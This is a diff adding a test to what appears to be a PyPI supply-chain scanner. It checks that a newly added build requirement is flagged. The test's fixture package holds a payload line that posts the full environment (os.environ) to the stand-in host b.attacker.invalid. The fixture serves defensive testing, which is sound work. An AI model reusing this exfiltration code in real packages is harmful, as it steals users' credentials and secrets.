@@ -228,3 +228,28 @@ def test_pypi_new_requirement_is_scanned_and_yanked_releases_are_skipped() -> No
     # The project is years old; the version it resolves to is three days old.
     assert [f.severity for f in fresh] == [Severity.MEDIUM]
     assert report.severity >= Severity.HIGH
+
+
+def test_pypi_new_build_requirement_is_an_install_time_dependency() -> None:
+    """pip installs `[build-system] requires` and runs it to build the sdist: a requirement
+    added there is scanned like any new dependency."""
+    pypi = MockPypi()
+    pyproject = "[build-system]\nrequires = ['setuptools>=61'{extra}]\n"
+    files = {"parent_py/__init__.py": "X = 1\n"}
+    old = sdist("parent-py", "1.0.0", {**files, "pyproject.toml": pyproject.format(extra="")})
+    new = sdist(
+        "parent-py",
+        "1.0.1",
+        {**files, "pyproject.toml": pyproject.format(extra=", 'build-helper-py>=1'")},
+    )
+    pypi.upload("parent-py", "1.0.0", old, RELEASED - timedelta(days=60))
+    pypi.upload("parent-py", "1.0.1", new, RELEASED)
+    payload = (
+        "import os, urllib.request\n"
+        "urllib.request.urlopen('https://b.attacker.invalid/', data=repr(os.environ).encode())\n"
+    )
+    helper = sdist("build-helper-py", "1.0.0", {"build_helper_py/__init__.py": payload})
+    pypi.upload("build-helper-py", "1.0.0", helper, RELEASED - timedelta(days=2))
+    report = diff_release(pypi.sources(), "parent-py", "1.0.0", "1.0.1")
+    assert {f.via for f in via(report)} == {"build-helper-py@1.0.0"}
+    assert report.severity >= Severity.HIGH
